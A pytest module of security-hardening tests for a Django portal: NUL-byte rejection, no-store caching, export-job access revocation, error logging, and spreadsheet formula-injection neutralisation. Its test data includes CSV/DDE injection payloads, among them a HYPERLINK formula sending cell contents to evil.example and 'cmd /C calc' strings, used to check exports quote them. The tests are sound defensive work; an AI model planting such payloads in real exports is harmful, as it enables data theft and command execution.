"""Hardening found by the outside audit (issue 13): formulas in exports, NUL characters in requests,
caching of signed-in responses, ITA export jobs after a loss of access, tracebacks of 500s.

The URL walks reuse the access matrix's table (tests/test_access_matrix.py): every routed URL,
built with a demo object, so a new view is covered the moment it is routed.
"""

import io
import os
import secrets
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.core.signals import request_finished
from django.db import close_old_connections, transaction
from django.test import Client, RequestFactory
from django.urls import reverse
from openpyxl import load_workbook
from test_access_matrix import RULES, routed_names
from test_access_matrix import request as undone_request

from lao_integrity.middleware import refused_part

BASE_DIR = Path(__file__).resolve().parent.parent
THAI_400 = "อักขระควบคุม"


def admin_client() -> Client:
    client = Client()
    client.force_login(get_user_model().objects.get(username="admin"))
    return client


def built_url(name: str, seeded) -> str:
    kwargs, _, query = RULES[name].build(SimpleNamespace(seeded=seeded))
    return reverse(name, kwargs=kwargs) + (f"?{query}" if query else "")


def close(response) -> None:
    """Close a file response without closing the test's database connection (request_finished
    would, on PostgreSQL; see test_access_matrix.request)."""
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


def with_query(url: str, query: str) -> str:
    return url + ("&" if "?" in url else "?") + query


def nul_in_path(url: str) -> list[str]:
    """The URL with %00 put into each of its path segments in turn (at the end of the segment)."""
    path, _, query = url.partition("?")
    segments = path.strip("/").split("/")
    variants = []
    for index in range(len(segments)):
        changed = [s + "%00" if i == index else s for i, s in enumerate(segments)]
        variants.append("/" + "/".join(changed) + "/" + (f"?{query}" if query else ""))
    return variants


# --- NUL in the request: 400, never 500 ---------------------------------------------------------------


def assert_refused(response, what):
    assert response.status_code == 400, f"{what}: {response.status_code}"
    assert THAI_400 in response.content.decode(), what


@pytest.mark.parametrize("name", [n for n in routed_names() if n in RULES])
def test_a_nul_anywhere_in_a_request_is_a_thai_400_on_every_url(name, seeded):
    client = admin_client()
    url = built_url(name, seeded)
    for variant in [with_query(url, "q=%00"), with_query(url, "fiscal_year=2566%00&format=csv%00&page=%001"),
                    with_query(url, "%00=1"), *nul_in_path(url)]:
        assert_refused(undone_request(client, "GET", variant), f"GET {variant}")
    with_nul = {"name": "โครงการ\x00", "q": "a\x00", "fiscal_year": "2566", "format": "csv"}
    with transaction.atomic():
        response = client.post(url, with_nul)
        transaction.set_rollback(True)
    assert_refused(response, f"POST {url}")


def test_a_nul_in_the_admin_is_a_thai_400(seeded):
    client = admin_client()
    for model in admin.site._registry:
        opts = model._meta
        changelist = reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist")
        assert_refused(client.get(changelist + "?q=%00"), changelist)
        change = f"/admin/{opts.app_label}/{opts.model_name}/%00/change/"
        assert_refused(client.get(change), change)


def test_a_nul_in_a_request_header_is_refused(seeded):
    client = admin_client()
    assert_refused(client.get(reverse("plans:list"), HTTP_X_FORWARDED_FOR="1.2.3.4\x00"), "header")
    assert_refused(client.get(reverse("login"), HTTP_USER_AGENT="Mozilla\x00"), "header")


def test_a_session_cookie_with_a_nul_is_dropped_not_an_error(seeded):
    client = Client()
    client.cookies["sessionid"] = "abcdefgh\x00ijklmnop"
    response = client.get(reverse("plans:list"))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    assert client.get(reverse("login")).status_code == 200


def test_ordinary_text_with_tabs_line_breaks_and_thai_passes():
    factory = RequestFactory()
    text = "บรรทัดหนึ่ง\r\nบรรทัดสอง\tแท็บ ๒๕๖๙ O29 ✓"
    assert refused_part(factory.get("/plans/", {"q": text})) is None
    assert refused_part(factory.post("/plans/1/settings/", {"remark": text})) is None
    assert refused_part(factory.get("/plans/%0A/")) == "path"
    assert refused_part(factory.get("/plans/", {"q": "\x00"})) == "query"
    assert refused_part(factory.post("/plans/", {"remark": "a\x00"})) == "form"


# --- Cache-Control on every signed-in response ------------------------------------------------------------


def assert_private(response, what):
    directives = {d.strip().split("=")[0] for d in response.get("Cache-Control", "").split(",")}
    assert {"no-store", "private"} <= directives, f"{what}: Cache-Control {response.get('Cache-Control')!r}"


@pytest.mark.parametrize("name", [n for n in routed_names() if n in RULES and n != "healthz"])
def test_every_signed_in_response_is_no_store_private(name, seeded):
    client = admin_client()
    url = built_url(name, seeded)
    for method in ("GET", "POST"):
        response = undone_request(client, method, url)
        assert_private(response, f"{method} {url} ({response.status_code})")
    # An address without its slash: CommonMiddleware's redirect, outside the view.
    path = url.partition("?")[0]
    if path.endswith("/") and path != "/":
        response = undone_request(client, "GET", path.rstrip("/"))
        assert_private(response, f"GET {path.rstrip('/')} ({response.status_code})")


def test_downloads_pdfs_admin_and_sign_in_are_no_store_private(seeded, settings):
    client = admin_client()
    plan = seeded.plan
    for url in [reverse("plans:export", kwargs={"pk": plan.pk, "fmt": "xlsx"}),
                reverse("plans:document", kwargs={"pk": plan.pk, "kind": "announcement"}),
                reverse("ita:export") + "?fiscal_year=2566&format=csv",
                reverse("admin:index"), reverse("admin:orgs_organisation_changelist"), "/no-such-page/"]:
        response = client.get(url)
        assert_private(response, f"{url} ({response.status_code})")
        close(response)
    # Signing in: the redirect that follows the login form already belongs to the signed-in user.
    user = get_user_model().objects.get(username="staff")
    user.set_password("hardening-pw-2569")
    user.save()
    fresh = Client()
    response = fresh.post(reverse("login"), {"username": "staff", "password": "hardening-pw-2569"})
    assert response.status_code == 302
    assert_private(response, "login redirect")


def test_static_files_keep_their_own_caching_for_a_signed_in_user(seeded, settings):
    settings.WHITENOISE_USE_FINDERS = True
    settings.WHITENOISE_AUTOREFRESH = True
    client = admin_client()  # a new client builds the middleware chain with these settings
    response = client.get("/static/css/document.css")
    assert response.status_code == 200
    assert "no-store" not in response.get("Cache-Control", "") and "max-age" in response["Cache-Control"]
    close(response)


# --- formulas in every export ----------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"คลิก")'
EVIL_TEXTS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1"]


def formula_texts_in_csv(data: bytes) -> tuple[list[str], list[str]]:
    """(cells that a spreadsheet would run, cells neutralised with an apostrophe)."""
    import csv

    from lao_integrity.tabular import _is_formula_like

    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    live = [c for c in cells if _is_formula_like(c)]
    quoted = [c for c in cells if c.startswith("'") and _is_formula_like(c[1:])]
    return live, quoted


def xlsx_cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_neutralised(data: bytes, fmt: str, texts: list[str], what: str, *, each: bool = True):
    """No cell of the file runs as a formula; the formula-like `texts` are there, kept as text (each
    of them, or with each=False at least one: a resource need not export every field)."""
    from lao_integrity.tabular import _is_formula_like

    if fmt == "csv":
        live, quoted = formula_texts_in_csv(data)
        assert not live, f"{what}: live formulas {live}"
        present = [t for t in texts if "'" + t.strip() in [q.strip() for q in quoted]]
    else:
        cells = xlsx_cells(data)
        assert all(cell.data_type != "f" for cell in cells), what
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            assert b"<f>" not in b"".join(archive.read(n) for n in archive.namelist() if "worksheets" in n), what
        unprefixed = [c.value for c in cells if isinstance(c.value, str) and _is_formula_like(c.value)
                      and not (c.data_type == "s" and c.quotePrefix)]
        assert not unprefixed, f"{what}: formula-like text without the quote prefix: {unprefixed}"
        present = [t for t in texts if any(c.value == t for c in cells)]
    missing = [t for t in texts if t not in present]
    assert (not missing) if each else present, f"{what}: not found neutralised: {missing}"


def export_admins():
    return [(model, model_admin) for model, model_admin in admin.site._registry.items()
            if hasattr(model_admin, "get_export_formats")]


def poison(model) -> tuple[int, list[str]]:
    """Put formula texts in the text fields of one row (around the services, as a crafted import or
    a hand edit would); returns its pk and the texts."""
    from django.db import models as m

    obj = model._default_manager.order_by("pk").first()
    assert obj is not None, model
    fields = [f for f in model._meta.concrete_fields
              if isinstance(f, (m.CharField, m.TextField)) and not f.choices and not f.unique and not f.primary_key
              and f.name not in {"code", "provinces"} and not isinstance(f, m.FileField)]
    values = {f.name: EVIL_TEXTS[i % len(EVIL_TEXTS)][: f.max_length or None] for i, f in enumerate(fields)}
    model._default_manager.filter(pk=obj.pk).update(**values)
    return obj.pk, [v for v in values.values() if v]


def admin_export(client, model, fmt: str, pk) -> bytes:
    opts = model._meta
    url = reverse(f"admin:{opts.app_label}_{opts.model_name}_export")
    page = client.get(url)
    assert page.status_code == 200, url
    form = page.context["form"]
    data = {name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)}
    data["format"] = next(value for value, label in form.fields["format"].choices if str(label).lower() == fmt)
    if "resource" in form.fields:
        data["resource"] = form.fields["resource"].choices[0][0]
    response = client.post(url, data)
    assert response.status_code == 200 and "attachment" in response.get("Content-Disposition", ""), (
        url, response.status_code)
    assert response["Content-Disposition"].rstrip('"').endswith(f".{fmt}"), response["Content-Disposition"]
    return response.content


def test_the_admin_exports_csv_and_xlsx_only(seeded):
    for model, model_admin in export_admins():
        assert [f().get_extension() for f in model_admin.get_export_formats()] == ["csv", "xlsx"], model


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_admin_export_keeps_formula_text_as_text(seeded, fmt):
    client = admin_client()
    admins = export_admins()
    assert len(admins) >= 8
    # Every model's rows first: an export also shows related rows' text (a membership's organisation).
    poisoned = {model: poison(model) for model, _ in admins}
    every_text = sorted({text for _, texts in poisoned.values() for text in texts})
    for model, _ in admins:
        pk, texts = poisoned[model]
        texts = texts or every_text
        data = admin_export(client, model, fmt, pk)
        if fmt == "csv":
            assert data.startswith("\ufeff".encode()), model  # Excel shows Thai only with the BOM
        assert_neutralised(data, fmt, texts, f"admin export of {model.__name__} ({fmt})", each=False)


def test_admin_formats_keep_numbers_negative_ones_included_as_numbers(seeded):
    import tablib

    from lao_integrity import export_formats
    from plans.models import Project

    dataset = tablib.Dataset(headers=["ชื่อ", "งบ", "จำนวน", "ข้อความ"], title="t")
    dataset.append([EVIL, Decimal("-1234.50"), -5, "-5"])
    cells = xlsx_cells(export_formats.XLSX().export_data(dataset))
    assert [c.value for c in cells[4:]] == [EVIL, -1234.5, -5, "-5"]
    assert [c.data_type for c in cells[4:]] == ["s", "n", "n", "s"] and cells[4].quotePrefix
    assert not any(c.quotePrefix for c in cells[5:])
    import csv

    rows = list(csv.reader(io.StringIO(export_formats.CSV().export_data(dataset).lstrip("\ufeff"))))
    assert rows[1] == ["'" + EVIL, "-1,234.50", "-5", "-5"]  # amounts as the portal's csv writes them
    # Through the admin: the budget is a number cell in xlsx (the resource gives native values there).
    project = seeded.plan.projects.order_by("sequence").first()
    Project.objects.filter(pk=project.pk).update(budget=Decimal("1234.50"), name="-5")
    client = admin_client()
    cells = xlsx_cells(admin_export(client, Project, "xlsx", project.pk))
    assert any(c.value == 1234.5 and c.data_type == "n" for c in cells)
    assert any(c.value == "-5" and not c.quotePrefix for c in cells)  # a name that reads as a number: untouched
    live, _ = formula_texts_in_csv(admin_export(client, Project, "csv", project.pk))
    assert not live and "'-5" not in admin_export(client, Project, "csv", project.pk).decode("utf-8-sig")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_what_the_admin_exported_its_import_reads_back_as_typed(seeded, fmt):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from lao_integrity.orgs.models import Organisation

    Organisation.objects.filter(pk=seeded.org.pk).update(name=EVIL)
    client = admin_client()
    exported = admin_export(client, Organisation, fmt, seeded.org.pk)
    Organisation.objects.filter(pk=seeded.org.pk).update(name="ชื่อที่จะถูกแทน")
    url = reverse("admin:orgs_organisation_import")
    assert client.get(url).status_code == 200
    # One step: the admin's import is the import_orgs service (all or nothing), no preview to confirm.
    done = client.post(url, {"file": SimpleUploadedFile(f"orgs.{fmt}", exported)})
    assert done.status_code == 302, done.content.decode()[:2000]
    name = Organisation.objects.get(pk=seeded.org.pk).name
    # (the organisation import puts the type's words before a short name)
    assert name.endswith(EVIL) and "'" + EVIL not in name, name


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_page_and_command_exports_keep_formula_text_as_text(seeded, fmt, tmp_path,
                                                             django_capture_on_commit_callbacks):
    from agreements.performance.models import AgreementIndicator, AgreementStatus, PerformanceAgreement
    from ita.models import Result
    from lao_integrity.orgs.models import Organisation
    from plans.models import Project

    project = seeded.plan.projects.order_by("sequence").first()
    Project.objects.filter(pk=project.pk).update(name=EVIL, remark="+cmd|' /C calc'!A0")
    Organisation.objects.filter(pk=seeded.org.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    agreement = PerformanceAgreement.objects.filter(status=AgreementStatus.DRAFT).order_by("pk").first()
    AgreementIndicator.objects.filter(pk=agreement.indicators.order_by("pk").first().pk).update(name="-2+3+cmd|' /C calc'!A0")
    client = admin_client()

    def body(response):
        data = b"".join(response.streaming_content) if response.streaming else response.content
        close(response)
        return data

    plan_page = body(client.get(reverse("plans:export", kwargs={"pk": seeded.plan.pk, "fmt": fmt})))
    assert_neutralised(plan_page, fmt, [EVIL, "+cmd|' /C calc'!A0"], "plan export page")
    indicators = body(client.get(reverse("agreements:indicator_export", kwargs={"pk": agreement.pk, "fmt": fmt})))
    assert_neutralised(indicators, fmt, ["-2+3+cmd|' /C calc'!A0"], "indicator export page")
    ita_page = body(client.get(reverse("ita:export"), {"fiscal_year": 2566, "format": fmt}))
    assert_neutralised(ita_page, fmt, ["@SUM(1+1)*cmd|' /C calc'!A0"], "ITA export page")
    # the ITA admin's export action
    results = Result.objects.filter(fiscal_year=2566).values_list("pk", flat=True)
    action = client.post(reverse("admin:ita_result_changelist") + "?fiscal_year=2566",
                         {"action": f"export_{fmt}", "_selected_action": list(results)})
    assert_neutralised(action.content, fmt, ["@SUM(1+1)*cmd|' /C calc'!A0"], "ITA admin action")
    # the commands
    call_command("export_plan", "--org", seeded.org.code, "--fiscal-year", "2569", "-o", str(tmp_path / f"p.{fmt}"),
                 stdout=io.StringIO())
    assert_neutralised((tmp_path / f"p.{fmt}").read_bytes(), fmt, [EVIL], "export_plan")
    call_command("export_ita", "--fiscal-year", "2566", "-o", str(tmp_path / f"i.{fmt}"), stdout=io.StringIO())
    assert_neutralised((tmp_path / f"i.{fmt}").read_bytes(), fmt, ["@SUM(1+1)*cmd|' /C calc'!A0"], "export_ita")
    # the background job's file of every organisation
    from ita.results.jobs import start_export

    admin_user = get_user_model().objects.get(username="admin")
    with django_capture_on_commit_callbacks(execute=True):
        job = start_export(user=admin_user, fiscal_year=2566, fmt=fmt)
    status, data = download(admin_user, job)
    assert status == 200
    assert_neutralised(data, fmt, ["@SUM(1+1)*cmd|' /C calc'!A0"], "ITA export job")


# --- an ITA export job after its owner loses access ------------------------------------------------------


def start_ita_export(user, capture):
    from lao_integrity.jobs.models import Job, Status

    client = Client()
    client.force_login(user)
    with capture(execute=True):
        response = client.post(reverse("ita:export_all"), {"fiscal_year": "2566", "format": "csv"})
    assert response.status_code == 302
    job = Job.objects.filter(owner=user, kind="ita-export").order_by("-created_at").first()
    assert job.status == Status.DONE, job.message
    return job


def download(user, job):
    client = Client()
    client.force_login(user)
    response = client.get(reverse("jobs:download", kwargs={"pk": job.pk}))
    data = b"".join(response.streaming_content) if response.streaming else response.content
    close(response)
    return response.status_code, data


def codes_in(data: bytes) -> list[str]:
    import csv

    return [row[0] for row in list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]]


def assert_refused_download(user, job):
    status, data = download(user, job)
    assert status == 403, status
    assert "สิทธิ์การเข้าถึงข้อมูลของท่านเปลี่ยนไป" in data.decode()


def test_export_job_of_a_member_is_refused_once_the_membership_is_gone(seeded, django_capture_on_commit_callbacks):
    from lao_integrity.orgs.models import Membership

    job = start_ita_export(seeded.staff, django_capture_on_commit_callbacks)
    status, data = download(seeded.staff, job)
    assert status == 200 and seeded.org.code in codes_in(data)
    Membership.objects.filter(user=seeded.staff, organisation=seeded.org).delete()
    assert_refused_download(seeded.staff, job)
    assert download(get_user_model().objects.get(username="admin"), job)[0] == 200  # sees everything anyway


def test_export_job_of_an_auditor_is_refused_once_the_scope_narrows(seeded, django_capture_on_commit_callbacks):
    from lao_integrity.orgs.services import auditor_scope_set

    auditor = get_user_model().objects.create_user(username="hardening_auditor", password="x-pw-2569-long")
    auditor_scope_set(user=auditor, provinces=[seeded.org.province, "เชียงราย"])
    job = start_ita_export(auditor, django_capture_on_commit_callbacks)
    assert download(auditor, job)[0] == 200
    auditor_scope_set(user=auditor, provinces=["เชียงราย"])
    assert_refused_download(auditor, job)
    auditor_scope_set(user=auditor, all_organisations=True)  # wider again: the file is theirs to read
    assert download(auditor, job)[0] == 200

    national = get_user_model().objects.create_user(username="hardening_national", password="x-pw-2569-long")
    auditor_scope_set(user=national, all_organisations=True)
    job = start_ita_export(national, django_capture_on_commit_callbacks)
    assert download(national, job)[0] == 200
    auditor_scope_set(user=national, provinces=[seeded.org.province])
    assert_refused_download(national, job)


def test_export_job_of_an_administrator_is_refused_once_no_longer_one(seeded, django_capture_on_commit_callbacks):
    user = get_user_model().objects.create_superuser(username="hardening_root", password="x-pw-2569-long")
    job = start_ita_export(user, django_capture_on_commit_callbacks)
    assert download(user, job)[0] == 200
    user.is_superuser = False
    user.save()
    assert download(user, job)[0] in (403, 404)


def test_an_export_job_without_a_recorded_scope_is_for_administrators_only(seeded, django_capture_on_commit_callbacks):
    from lao_integrity.jobs.models import Job

    job = start_ita_export(seeded.staff, django_capture_on_commit_callbacks)
    Job.objects.filter(pk=job.pk).update(params={"fiscal_year": 2566, "format": "csv"})  # as jobs made before
    assert_refused_download(seeded.staff, job)
    assert download(get_user_model().objects.get(username="admin"), job)[0] == 200


def test_an_export_holds_nothing_outside_the_scope_it_recorded(seeded, django_capture_on_commit_callbacks):
    from lao_integrity.jobs.services import job_start

    admin_user = get_user_model().objects.get(username="admin")
    scope = {"organisations": [seeded.org.pk], "provinces": []}
    with django_capture_on_commit_callbacks(execute=True):
        job = job_start(kind="ita-export", user=admin_user,
                        params={"fiscal_year": 2566, "format": "csv", "scope": scope})
    assert codes_in(download(admin_user, job)[1]) == [seeded.org.code]


# --- a 500 leaves its traceback in the application server's log --------------------------------------------

RAISING_REQUEST = """
import logging, os, sys
if os.environ.get("AS_GUNICORN"):
    # What gunicorn does before it loads the application (gunicorn.glogging.Logger.setup): its
    # error log is a logger of its own, not propagating, writing to --error-logfile.
    server = logging.getLogger("gunicorn.error")
    server.propagate = False
    handler = logging.FileHandler(os.environ["AS_GUNICORN"])
    handler.setFormatter(logging.Formatter("%(asctime)s [%(process)d] [%(levelname)s] %(message)s"))
    server.addHandler(handler)
import django
django.setup()
from django.test import Client
from django.urls import clear_url_caches, path
import lao_integrity.urls

def broken(request):
    raise RuntimeError("hardening-marker: the view failed")

lao_integrity.urls.urlpatterns.append(path("hardening-broken/", broken))
clear_url_caches()
response = Client(raise_request_exception=False).get("/hardening-broken/", secure=True)
print("status", response.status_code)
"""


def run_raising_request(tmp_path, **env) -> subprocess.CompletedProcess:
    environment = {k: v for k, v in os.environ.items() if not k.startswith("DJANGO_") and k != "DATABASE_URL"}
    environment.update({"DJANGO_DEBUG": "0", "DJANGO_SECRET_KEY": secrets.token_urlsafe(64),
                        "DJANGO_ALLOWED_HOSTS": "testserver", "DJANGO_SETTINGS_MODULE": "lao_integrity.settings",
                        "DATABASE_URL": f"sqlite:///{tmp_path / 'unused.sqlite3'}", "PYTHONPATH": str(BASE_DIR),
                        **env})
    result = subprocess.run([sys.executable, "-c", RAISING_REQUEST], cwd=BASE_DIR, env=environment,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0 and "status 500" in result.stdout, result.stdout + result.stderr
    return result


def assert_traceback(text: str, where: str):
    assert "Internal Server Error: /hardening-broken/" in text, f"{where}:\n{text}"
    assert "Traceback (most recent call last)" in text and "RuntimeError: hardening-marker" in text, f"{where}:\n{text}"


def test_with_debug_off_a_500_goes_to_the_gunicorn_error_log_with_its_traceback(tmp_path):
    log = tmp_path / "gunicorn-error.log"
    result = run_raising_request(tmp_path, AS_GUNICORN=str(log))
    assert_traceback(log.read_text(), "gunicorn's --error-logfile")
    assert "hardening-marker" not in result.stderr  # once, in the server's log


def test_with_debug_off_a_500_goes_to_stderr_without_gunicorn(tmp_path):
    # runserver, db_worker, manage.py: stderr (the journal under systemd).
    assert_traceback(run_raising_request(tmp_path).stderr, "stderr")


def test_django_request_errors_reach_a_handler_that_writes_them():
    from django.conf import settings

    logging_config = settings.LOGGING
    assert "django.request" not in logging_config.get("loggers", {})  # propagates to the root
    assert logging_config["root"]["handlers"] == ["server"]
    assert logging_config["handlers"]["server"]["class"] == "lao_integrity.logs.ServerLogHandler"
